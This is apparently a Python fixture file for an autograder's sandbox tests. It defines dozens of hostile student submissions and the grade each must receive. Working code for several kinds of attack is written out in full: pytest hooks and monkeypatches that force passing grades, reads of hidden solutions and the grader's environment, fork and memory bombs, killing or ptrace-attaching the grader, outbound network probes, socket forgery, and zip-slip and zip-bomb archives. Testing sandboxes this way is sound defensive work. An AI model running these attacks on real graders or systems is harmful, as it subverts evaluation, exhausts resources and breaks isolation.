"""Hostile and broken submissions, each with the result the grader must give it.

Most attacks are *an honest but broken lesson-2 file, plus injected code*. The honest file is
the starter with ``reconstruction_loss`` written wrongly (it sums where it should average:
:data:`BROKEN_LOSS`), so the hidden suite fails it quickly, whatever tests it holds. An attack
that works is rewarded: it turns itself into the reference solution (``_gain()``, which
executes the reference's text), so "the attack scores no more than the honest broken file"
means "the attack failed", without depending on the exact hidden tests. Crashing attacks (exit
at import, fork bomb, memory bomb, endless loop) are injected into the reference and must cost
lesson 2 only: the same submission's other lesson is graded as if nothing happened. Writing
attacks leave marker files named ``gf-attack-marker-<token>...`` wherever they manage to
write; the test searches for them.

``__TOKEN__`` in any text is replaced by a per-run token; ``__SECRET_VAR__`` by the name of an
environment variable that only the grader's process has.
"""

from __future__ import annotations

import io
import stat
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

from autograder.build.stripper import strip_solutions
from autograder.lessons import SOLUTIONS_DIR, lesson_by_number

ATTACKED_LESSON = 2
MARKER = "gf-attack-marker-"
SECRET_VAR = "GF_ATTACK_SECRET"
FAKE_OUTPUT = "GF-FAKE-OUTPUT"
BOMB_MB = 300

# The honest bugs (each makes the starter import cleanly and fail fast).
BROKEN_LOSS = '''

def reconstruction_loss(x_hat, x):  # the honest bug: a sum where the mean belongs
    return ((x_hat - x) ** 2).sum()
'''

BROKEN_DECODER = '''

class Decoder(nn.Module):  # the honest bug: flat images
    def __init__(self, latent_dim=32):
        super().__init__()
        self.latent_dim = latent_dim

    def forward(self, z):
        return torch.sigmoid(torch.zeros(len(z), 784))
'''

# The prize: a working attack turns the module into the reference solution.
GAIN = '''

_REFERENCE = {reference!r}

def _gain(why=""):
    exec(compile(_REFERENCE, "reference.py", "exec"), globals())
'''


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    ``code`` is appended to ``base``: ``"broken-loss"`` (the starter with :data:`BROKEN_LOSS`),
    ``"broken-decoder"`` (the starter with :data:`BROKEN_DECODER`), ``"reference"``, or ``""``
    for a file made of ``code`` alone. ``files`` are extra files in the submission
    folder; ``archive`` builds the submission as a zip instead (see :func:`build_zip`).
    ``expect``: ``"no-gain"`` (lesson 2 scores no more than the honest ``base`` and passes no
    test it fails), ``"crash"`` (lesson 2 scores 0, the other lesson as the reference does),
    ``"zero"`` (lesson 2 scores 0), ``"unharmed"`` (lesson 2 scores as the reference).
    ``timed``: its wall time is checked (it may run into the lesson's time limit).
    ``needs``: protections without which the attack is not defended (skipped, with the reason).
    """

    name: str
    description: str
    code: str = ""
    base: str = "broken-loss"
    expect: str = "no-gain"
    files: dict[str, str] = field(default_factory=dict)
    archive: str = ""
    timed: bool = False
    needs: tuple[str, ...] = ()


FILESYSTEM = ("private-filesystem",)
PROCESSES = ("private-processes",)
NETWORK = ("no-network",)
SIGNALS = ("no-signals-out",)

# Which of the sandbox's protections (``Sandbox.protections``) give each need.
SATISFIED_BY = {
    "private-filesystem": {"private-filesystem", "bwrap:private-filesystem", "landlock-filesystem"},
    "private-tmp": {"private-tmp", "landlock-filesystem"},
    "private-processes": {"private-processes", "bwrap:private-processes"},
    "no-network": {"no-network", "bwrap:no-network", "no-sockets"},
    "no-signals-out": {"private-processes", "bwrap:private-processes", "landlock-signals",
                       "unprivileged-user"},
}


def missing_protections(attack: "Attack", protections: list[str]) -> list[str]:
    """The needs of ``attack`` that none of ``protections`` gives."""
    return [need for need in attack.needs if not SATISFIED_BY[need] & set(protections)]


ATTACKS: list[Attack] = [
    # ------------------------------------------------------------------ pytest / Otter tricks
    Attack("conftest", "conftest.py and pytest.ini in the submission that force every test to pass",
           files={
               "conftest.py": "import pytest\n@pytest.hookimpl(hookwrapper=True)\n"
                              "def pytest_runtest_makereport(item, call):\n"
                              "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n",
               "02-autoencoders/conftest.py": "import pytest\ndef pytest_collection_modifyitems(items):\n"
                                              "    items.clear()\n",
               "pytest.ini": "[pytest]\naddopts = -p no:terminal -x --co\n",
               "02-autoencoders/tests/conftest.py": "import os\nos._exit(0)\n"}),
    Attack("sitecustomize", "sitecustomize.py / usercustomize.py that patch the checks at start-up",
           files={name: ("import torch.testing\ntorch.testing.assert_close = lambda *a, **k: None\n"
                         f"open('{MARKER}__TOKEN__-sitecustomize', 'w').close()\n")
                  for name in ("sitecustomize.py", "usercustomize.py", "02-autoencoders/sitecustomize.py")}),
    Attack("shadow-modules", "numpy.py / torch.py / coursekit in the submission, and fake modules in sys.modules",
           files={"02-autoencoders/numpy.py": "allclose = lambda *a, **k: True\n",
                  "02-autoencoders/torch.py": "raise SystemExit(0)\n",
                  "02-autoencoders/coursekit/testing.py": "def assert_close(*a, **k): pass\n"},
           code='''
import sys, types
_fake = types.ModuleType("numpy")
_fake.allclose = lambda *a, **k: True
sys.modules["numpy.testing"] = _fake
with open("torch.py", "w") as _f:  # into the working copy, for a later import
    _f.write("raise SystemExit(0)\\n")
'''),
    Attack("patch-checks", "patch torch.allclose, numpy.allclose, assert_close and tensor equality in the worker",
           code='''
import numpy, torch, torch.testing, coursekit.testing
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *x, **k: torch.ones_like(a, dtype=torch.bool)
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
torch.testing.assert_close = lambda *a, **k: None
coursekit.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: torch.tensor(True)
'''),
    # ------------------------------------------------------------------ lying return values
    Attack("always-equal", "an object whose __eq__ is always true (and that claims to be a float)",
           code='''
class _AlwaysEqual:
    shape = ()
    dtype = torch.float32
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __float__(self): return 0.0
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def item(self): return self
    def dim(self): return 0
_broken = reconstruction_loss
def reconstruction_loss(x_hat, x):
    return _AlwaysEqual()
'''),
    Attack("tensor-subclass", "a torch.Tensor subclass whose __torch_function__ makes every comparison pass",
           code='''
class _Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal", "__eq__", "eq", "isclose"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
_broken = reconstruction_loss
def reconstruction_loss(x_hat, x):
    return _broken(x_hat, x).as_subclass(_Liar)
'''),
    Attack("shape-lookalike", "a non-tensor with .shape, .dtype, .min() and .max() instead of the decoder's image",
           base="broken-decoder", code='''
class _LookAlike:
    def __init__(self, n):
        self.shape = torch.Size([n, 1, 28, 28])
        self.dtype = torch.float32
    def min(self): return 0.0
    def max(self): return 1.0
    def dim(self): return 4
    def __float__(self): return 0.5
class Decoder(nn.Module):
    def __init__(self, latent_dim=32):
        super().__init__()
    def forward(self, z):
        return _LookAlike(len(z))
'''),
    Attack("nan-answers", "NaN where a number is expected", code='''
def reconstruction_loss(x_hat, x):
    return torch.tensor(float("nan"))
'''),
    Attack("oversized-results", "a deeply nested list, a 100 MB string and a 300 MB tensor as results",
           code='''
class Encoder(nn.Module):
    def __init__(self, latent_dim=32):
        super().__init__()
    def forward(self, x):
        deep = []
        for _ in range(5000):
            deep = [deep]
        return deep
class Decoder(nn.Module):
    def __init__(self, latent_dim=32):
        super().__init__()
    def forward(self, z):
        return "x" * (100 * 1024 * 1024)
def reconstruction_loss(x_hat, x):
    return torch.zeros(300 * 1024 * 1024 // 4)
'''),
    Attack("evil-exception", "an exception named AssertionError whose str() fails", code='''
class AssertionError(Exception):
    def __str__(self):
        raise RecursionError("no")
def reconstruction_loss(x_hat, x):
    raise AssertionError()
'''),
    Attack("caller-frame", "read the expected value from the caller's frames and from memory", code='''
import gc, sys
_broken = reconstruction_loss
def reconstruction_loss(x_hat, x):
    mine = _broken(x_hat, x)
    frame = sys._getframe(1)
    while frame is not None:
        for name, value in frame.f_locals.items():
            if name in ("expected", "want", "reference") and isinstance(value, torch.Tensor):
                return value
        frame = frame.f_back
    for obj in gc.get_objects():
        if type(obj) is torch.Tensor and obj.dim() == 0 and obj is not mine:
            return obj  # some scalar the grader might have left here
    return mine
'''),
    Attack("harness-patch", "monkeypatch coursekit.harness inside the worker to forge what it reports",
           code='''
import coursekit.harness as _h
_h.optimizer_report = lambda optimizer: {"steps": 10**6, "stale_steps": 0}
_h.output_requires_grad = lambda fn, *a, **k: [True]
_h.is_training = lambda model: True
_h.recorded = lambda rec: {"inputs": [], "grad_enabled": [False]}
_h.seed_everything = lambda seed=0: None
'''),
    # ------------------------------------------------------------------ the disk
    Attack("read-hidden", "read the solutions, hidden suites, tests or .git from disk and use the reference",
           needs=FILESYSTEM, code='''
import os
def _steal():
    import coursekit
    roots = {os.path.dirname(os.path.dirname(os.path.abspath(coursekit.__file__))), "/work/main", os.getcwd()}
    for top in ("/work", "/tmp", "/home", "/root", "/srv", "/opt"):
        try:
            roots.update(os.path.join(top, d) for d in os.listdir(top))
        except OSError:
            pass
    for root in roots:
        for rel in ("solutions/02-autoencoders/autoencoder.py", "autograder/suites/lesson2.py",
                    "tests/mutants/lesson2.py", ".git/HEAD", "benchmarks"):
            path = os.path.join(root, rel)
            try:
                if os.path.isdir(path):
                    os.listdir(path)
                else:
                    open(path, "rb").read(64)
                return path
            except OSError:
                continue
    return None
if _steal():
    _gain("read-hidden")
'''),
    Attack("write-anywhere", "write files outside the working copy: /tmp, the repository, site-packages, $HOME, the submission",
           needs=FILESYSTEM, code='''
import os, numpy, coursekit
def _spray():
    here = os.getcwd()
    repo = os.path.dirname(os.path.dirname(os.path.abspath(coursekit.__file__)))
    targets = [os.path.dirname(here), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/root",
               repo, os.path.join(repo, "solutions"), os.path.join(repo, "autograder", "suites"),
               os.path.join(repo, "autograder"), os.path.join(repo, "coursekit"),
               os.path.dirname(os.path.dirname(numpy.__file__)), "/work", "/"]
    for top in ("/tmp",):
        for dirpath, dirnames, filenames in os.walk(top):
            if dirpath.count("/") > 6:
                dirnames[:] = []
            targets.append(dirpath)
            if len(targets) > 3000:
                break
    wrote = 0
    for target in targets:
        try:
            with open(os.path.join(target, "__MARKER____TOKEN__-write"), "w") as f:
                f.write("written by a student's code")
            wrote += 1
        except OSError:
            pass
    return wrote
_spray()
'''.replace("__MARKER__", MARKER)),
    Attack("fake-results", "write a results.json with full marks into every output-like folder it can find",
           needs=FILESYSTEM, code='''
import json, os
def _forge():
    fake = json.dumps({"score": 100, "tests": [], "forged": "__TOKEN__"})
    folders = {os.getcwd(), os.path.dirname(os.getcwd())}
    for top in ("/tmp", "/work"):
        for dirpath, dirnames, filenames in os.walk(top):
            if dirpath.count("/") > 7:
                dirnames[:] = []
            if "results.json" in filenames or "grades.csv" in filenames or "feedback.md" in filenames:
                folders.add(dirpath)
    for folder in folders:
        for name in ("results.json", "grades.csv"):
            try:
                with open(os.path.join(folder, name), "w") as f:
                    f.write(fake)
            except OSError:
                pass
_forge()
'''),
    Attack("disk-fill", "fill the disk: 16 MB files until something breaks", needs=("private-tmp",), code='''
import os
def _fill():
    written = 0
    for folder in (os.getcwd(), "/tmp", "/dev/shm", "/var/tmp"):
        for i in range(12):
            try:
                with open(os.path.join(folder, f"fill-{i}"), "wb") as f:
                    f.write(b"0" * (16 * 1024 * 1024))
                written += 16
            except OSError:
                break
    return written
if _fill() >= 256:
    _gain("disk-fill")
'''),
    Attack("persist-1", "leave a file for the next worker (another student's or the next test's)",
           needs=("private-tmp",), code='''
import os
_PLACES = ("/tmp", "/var/tmp", "/dev/shm", os.path.dirname(os.getcwd()))
if any(os.path.exists(os.path.join(p, "gf-persist-__TOKEN__")) for p in _PLACES):
    _gain("persist")
for _p in _PLACES:
    try:
        open(os.path.join(_p, "gf-persist-__TOKEN__"), "w").close()
    except OSError:
        pass
'''),
    Attack("persist-2", "the same, graded after persist-1: finds what persist-1 left, if anything",
           needs=("private-tmp",), code='''
import os
_PLACES = ("/tmp", "/var/tmp", "/dev/shm", os.path.dirname(os.getcwd()))
if any(os.path.exists(os.path.join(p, "gf-persist-__TOKEN__")) for p in _PLACES):
    _gain("persist")
'''),
    Attack("other-workers", "read other students' working copies graded at the same time",
           needs=FILESYSTEM, code='''
import glob, os
def _peek():
    for path in glob.glob("/tmp/gf-workers-*/w-*/autoencoder.py"):
        if os.path.dirname(path) != os.getcwd():
            try:
                open(path).read()
                return True
            except OSError:
                pass
    return False
if _peek():
    _gain("other-workers")
'''),
    # ------------------------------------------------------------------ processes
    Attack("roster", "walk every object in the worker's memory (and the frames it inherited) for "
           "the names of the other submissions of the run", code='''
import gc as _gc, sys as _sys
def _roster():
    needles = ["".join(parts) for parts in (("hon", "est-ref", "erence"), ("hon", "est-bro", "ken-"))]
    found = []
    def look(values):
        found.extend(v for v in values if isinstance(v, str) and any(n in v for n in needles))
    for obj in _gc.get_objects():
        if obj is needles or obj is found:
            continue
        try:
            if isinstance(obj, dict):
                look(list(obj.keys()) + list(obj.values()))
            elif isinstance(obj, (list, tuple, set, frozenset)):
                look(list(obj))
        except Exception:
            pass
    frame = _sys._getframe()
    while frame is not None:
        look(list(frame.f_locals.values()))
        frame = frame.f_back
    return found
if _roster():
    _gain()
'''),
    Attack("huge-messages", "exceptions with 100,000-character messages, to bloat every file written",
           code='''
def reconstruction_loss(x_hat, x):
    raise ValueError("\u20ac\x01" * 100_000)
'''),
    Attack("predict-seed", "recognise the grader's inputs by predicting its seed (0), then answer "
           "from a table (here: become the reference) whenever the prediction holds", code='''
import torch as _torch
_broken_loss = reconstruction_loss
def reconstruction_loss(x_hat, x):
    if _torch.initial_seed() == 0:
        _gain()
    return _broken_loss(x_hat, x)
'''),
    Attack("exit-at-import", "os._exit(0) at import", base="reference", expect="crash",
           code="\nimport os\nos._exit(0)\n"),
    Attack("fork-bomb", "a fork bomb at import", base="reference", expect="crash", timed=True, code='''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
'''),
    Attack("memory-bomb", "a 50 GB allocation at import", base="reference", expect="crash", timed=True,
           code="\n_hog = bytearray(50 * 1024 ** 3)\n"),
    Attack("infinite-loop", "while True: pass at import", base="reference", expect="crash", timed=True,
           code="\nwhile True:\n    pass\n"),
    Attack("signal-handlers", "ignore SIGALRM/SIGTERM/SIGINT/SIGXCPU, then loop forever in one function",
           timed=True, code='''
import signal
for _s in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGXCPU):
    signal.signal(_s, signal.SIG_IGN)
def reconstruction_loss(x_hat, x):
    while True:
        pass
'''),
    Attack("kill-grader", "kill the parent, every process it can see, and the grader by name",
           needs=SIGNALS, code='''
import os, signal
def _kill():
    for pid in (os.getppid(), -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                if b"autograder" in open(f"/proc/{entry}/cmdline", "rb").read():
                    os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
_kill()
'''),
    Attack("ptrace", "ptrace-attach to the parent and to the grader", code='''
import ctypes, os
def _attach():
    libc = ctypes.CDLL(None, use_errno=True)
    pids = {os.getppid()}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if b"autograder" in open(f"/proc/{entry}/cmdline", "rb").read():
                    pids.add(int(entry))
            except OSError:
                pass
    pids.discard(os.getpid())
    for pid in pids:
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
            return True
    return False
if _attach():
    _gain("ptrace")
'''),
    Attack("proc-snooping", "read the grader's environment and command line through /proc",
           needs=PROCESSES, code='''
import os
def _snoop():
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            if b"__SECRET_VAR__=" in open(f"/proc/{entry}/environ", "rb").read():
                return True
            if b"--out" in open(f"/proc/{entry}/cmdline", "rb").read():
                return True
        except OSError:
            pass
    return False
if _snoop():
    _gain("proc")
'''),
    Attack("become-root", "setuid(0), sudo and su", code='''
import os, subprocess
def _root():
    for fn in (lambda: os.setuid(0), lambda: os.setgid(0)):
        try:
            fn()
        except OSError:
            pass
    for cmd in (["sudo", "-n", "true"], ["su", "-c", "true"]):
        try:
            if subprocess.run(cmd, stdin=subprocess.DEVNULL, capture_output=True, timeout=5).returncode == 0:
                return True
        except (OSError, subprocess.SubprocessError):
            pass
    return os.geteuid() == 0
if _root():
    _gain("root")
'''),
    # ------------------------------------------------------------------ the network
    Attack("network", "open TCP, UDP and Unix-socket connections (internet, the host's loopback, /run)",
           needs=NETWORK, code='''
import glob, socket
def _connect():
    for host, port in (("1.1.1.1", 53), ("8.8.8.8", 53), ("127.0.0.1", 2024), ("127.0.0.1", 22),
                       ("pypi.org", 443)):
        try:
            socket.create_connection((host, port), timeout=2).close()
            return True
        except OSError:
            pass
    try:
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.settimeout(2)
        udp.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x01\\x00\\x01", ("8.8.8.8", 53))
        udp.recvfrom(512)
        return True
    except OSError:
        pass
    for path in glob.glob("/run/**/*.sock", recursive=True) + glob.glob("/var/run/*.sock"):
        try:
            s = socket.socket(socket.AF_UNIX)
            s.connect(path)
            return True
        except OSError:
            pass
    return False
if _connect():
    _gain("network")
'''),
    # ------------------------------------------------------------------ the channel to the grader
    Attack("fake-output", "print fake test results to stdout, stderr and the terminal", code=f'''
import os, sys
print("===== 30 passed in 0.01s ===== {FAKE_OUTPUT} score: 100/100")
sys.stderr.write("{FAKE_OUTPUT} PASSED\\n")
for _fd in range(0, 64):
    try:
        os.write(_fd, b"{FAKE_OUTPUT}\\n")
    except OSError:
        pass
try:
    with open("/dev/tty", "w") as _tty:
        _tty.write("{FAKE_OUTPUT}\\n")
except OSError:
    pass
'''),
    Attack("huge-stdout", "print 200 MB at import (a correct solution otherwise)", base="reference",
           expect="unharmed", code='''
import sys
_line = "y" * (1024 * 1024)
for _ in range(200):
    sys.stdout.write(_line)
    sys.stderr.write(_line)
'''),
    Attack("socket-forgery", "find the grader's socket, write forged replies, dup it over stdout", code='''
import json, os, stat, struct
def _forge():
    for fd in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue
        except OSError:
            continue
        for body in ({"ok": None}, {"ok": 0.0}, {"ok": {"t": "float", "v": "nan"}}, {"ok": True},
                     {"ok": {"t": "tensor", "i": 0}}, {"score": 100}):
            header = json.dumps({"body": body, "arrays": []}).encode()
            os.write(fd, struct.pack("!QQ", len(header), 0) + header)
        os.write(fd, struct.pack("!QQ", 2**40, 2**40))
        os.dup2(fd, 1)
        print("{\\"ok\\": 1}")
_forge()
'''),
    Attack("trickle", "reply one byte at a time, slowly enough to defeat a per-read timeout",
           base="reference", expect="crash", timed=True, code='''
import time
import autograder.protocol as _p
def _slow(sock, frame):
    for i in range(len(frame)):
        sock.sendall(frame[i:i + 1])
        time.sleep(0.5)
_p.send_frame = _slow
'''),
    # ------------------------------------------------------------------ the submission itself
    Attack("folder-symlink", "the lesson file is a symlink to the reference solution", base="",
           expect="zero", archive="symlink-folder"),
    Attack("zip-symlink", "a zip whose lesson file is a symlink to the reference solution", base="",
           expect="zero", archive="symlink"),
    Attack("zip-slip", "a zip with ../ and absolute paths", archive="slip"),
    Attack("zip-bomb", "a zip that unpacks to 300 MB (with the reference inside)", base="reference",
           expect="at-most-reference", archive="bomb"),
    Attack("zip-bomb-lying", "a zip whose headers understate a 300 MB member (with the reference inside)",
           base="reference", expect="at-most-reference", archive="lying-bomb"),
]


def lesson_source(number: int) -> str:
    lesson = lesson_by_number(number)
    return (SOLUTIONS_DIR / lesson.folder / lesson.student_file).read_text(encoding="utf-8")


def base_source(base: str) -> str:
    """The honest code an attack is built on."""
    reference = lesson_source(ATTACKED_LESSON)
    if base == "reference":
        return reference
    if base == "":
        return ""
    return strip_solutions(reference) + {"broken-loss": BROKEN_LOSS, "broken-decoder": BROKEN_DECODER}[base]


def attack_source(attack: Attack) -> str:
    if attack.base == "":
        return attack.code
    return base_source(attack.base) + GAIN.format(reference=lesson_source(ATTACKED_LESSON)) + attack.code


def substitute(text: str, token: str) -> str:
    return text.replace("__TOKEN__", token).replace("__SECRET_VAR__", SECRET_VAR)


def _zip_bytes(entries: list[tuple[zipfile.ZipInfo, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, data in entries:
            zf.writestr(info, data)
    return buffer.getvalue()


def _info(name: str, mode: int = 0o644) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFREG | mode) << 16
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def build_zip(kind: str, student_source: str, token: str) -> bytes:
    """The bytes of an archive attack's zip (``kind``: symlink, slip, bomb, lying-bomb)."""
    lesson = lesson_by_number(ATTACKED_LESSON)
    inside = f"{lesson.folder}/{lesson.student_file}"
    if kind == "symlink":
        target = str(SOLUTIONS_DIR / lesson.folder / lesson.student_file)
        link = zipfile.ZipInfo(inside)
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        folder = zipfile.ZipInfo("other/" + lesson.folder)
        folder.external_attr = (stat.S_IFLNK | 0o777) << 16
        return _zip_bytes([(link, target.encode()), (folder, str(SOLUTIONS_DIR / lesson.folder).encode())])
    entries = [(_info(inside), student_source.encode())]
    if kind == "slip":
        entries += [(_info(f"../../{MARKER}{token}-zipslip"), b"slip"),
                    (_info(f"/tmp/{MARKER}{token}-zipslip-absolute"), b"slip")]
        return _zip_bytes(entries)
    if kind in ("bomb", "lying-bomb"):
        zeros = zlib.compressobj(9, zlib.DEFLATED, -15)
        chunk = b"\0" * (1 << 20)
        raw, crc = b"", 0
        for _ in range(BOMB_MB):
            raw += zeros.compress(chunk)
            crc = zlib.crc32(chunk, crc)
        raw += zeros.flush()
        size = BOMB_MB * len(chunk)
        return _append_raw_member(_zip_bytes(entries), "bomb.bin", raw, size, crc,
                                  declared=1024 if kind == "lying-bomb" else size)
    raise ValueError(kind)


def _append_raw_member(archive: bytes, name: str, raw: bytes, size: int, crc: int, declared: int) -> bytes:
    """Add an already-deflated member whose headers declare ``declared`` bytes uncompressed."""
    import struct
    with zipfile.ZipFile(io.BytesIO(archive)) as zf:
        members = [(info, zf.read(info)) for info in zf.infolist()]
    out = io.BytesIO()
    central = []
    for info, data in members:
        comp = zlib.compressobj(9, zlib.DEFLATED, -15)
        deflated = comp.compress(data) + comp.flush()
        central.append(_write_local(out, info.filename.encode(), deflated, len(data), zlib.crc32(data),
                                    len(data)))
    central.append(_write_local(out, name.encode(), raw, size, crc, declared))
    start = out.tell()
    for offset, fname, csize, usize, ccrc in central:
        out.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x0314, 20, 0, 8, 0, 0, ccrc, csize, usize,
                              len(fname), 0, 0, 0, 0, (stat.S_IFREG | 0o644) << 16, offset) + fname)
    end = out.tell()
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), end - start, start, 0))
    return out.getvalue()


def _write_local(out: io.BytesIO, name: bytes, deflated: bytes, size: int, crc: int, declared: int
                 ) -> tuple[int, bytes, int, int, int]:
    import struct
    offset = out.tell()
    out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(deflated), declared,
                          len(name), 0) + name + deflated)
    return offset, name, len(deflated), declared, crc


def write_attack(attack: Attack, root: Path, token: str, other: tuple[int, str] | None) -> Path:
    """Write ``attack``'s submission under ``root``; returns its path (folder or zip).
    ``other``: ``(lesson number, source)`` of the other lesson that crash attacks include."""
    lesson = lesson_by_number(ATTACKED_LESSON)
    source = substitute(attack_source(attack), token)
    if attack.archive and attack.archive != "symlink-folder":
        path = root / f"{attack.name}.zip"
        path.write_bytes(build_zip(attack.archive, source, token))
        return path
    folder = root / attack.name
    target = folder / lesson.folder / lesson.student_file
    target.parent.mkdir(parents=True, exist_ok=True)
    if attack.archive == "symlink-folder":
        target.symlink_to(SOLUTIONS_DIR / lesson.folder / lesson.student_file)
    else:
        target.write_text(source, encoding="utf-8")
    for name, text in attack.files.items():
        extra = folder / name
        extra.parent.mkdir(parents=True, exist_ok=True)
        extra.write_text(substitute(text, token), encoding="utf-8")
    if other is not None and attack.expect == "crash":
        number, text = other
        other_lesson = lesson_by_number(number)
        path = folder / other_lesson.folder / other_lesson.student_file
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return folder


# A worker that tries to slow the grader down for everyone graded beside it (issue 14, class 1):
# it raises its socket's send buffer and queues replies before it is asked, and every reply it
# sends is a 4 MB header of nested empty lists (seconds of parsing for a naive reader).
FLOOD = '''

import json as _json, os as _os, socket as _socket, stat as _stat, struct as _struct
import autograder.protocol as _protocol

_HEADER = _json.dumps({"body": {"ok": [[]] * (_protocol.MAX_HEADER_BYTES // 4 - 16)},
                       "arrays": []}, separators=(",", ":")).encode()
_FRAME = _struct.pack("!QQ", len(_HEADER), 0) + _HEADER

def _flood():
    for fd in range(3, 64):
        try:
            if not _stat.S_ISSOCK(_os.fstat(fd).st_mode):
                continue
            sock = _socket.socket(fileno=_os.dup(fd))
            sock.setsockopt(_socket.SOL_SOCKET, _socket.SO_SNDBUF, 64 * 1024 * 1024)
            sock.setblocking(False)
            for _ in range(16):
                sock.send(_FRAME)
        except OSError:
            pass

_real_pack = _protocol.pack
_replies = []

def _pack(body, arrays):  # the import is answered honestly; every later reply floods
    _replies.append(1)
    if len(_replies) == 1:
        return _real_pack(body, arrays)
    if len(_replies) == 2:
        _flood()
    return _FRAME

_protocol.pack = _pack
'''
